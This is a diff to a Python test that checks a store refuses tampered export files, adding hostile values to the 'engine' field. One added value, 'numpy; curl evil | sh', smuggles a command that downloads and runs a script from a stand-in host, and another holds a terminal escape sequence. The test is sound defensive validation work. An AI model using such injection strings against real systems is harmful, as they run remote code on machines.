@@ -301,6 +301,9 @@ def test_a_tampered_export_is_refused(store: Store, tmp_path: Path) -> None:
         ("recipe", "{}}"),
         ("recipe", '{"model": "evil"}'),
         ("result_outcome", "won"),
+        ("engine", "numpy; curl evil | sh"),
+        ("engine", "command:"),
+        ("engine", "command:a\x1b[2J"),
     ):
         wrong = frame.copy()
         wrong.loc[0, column] = value
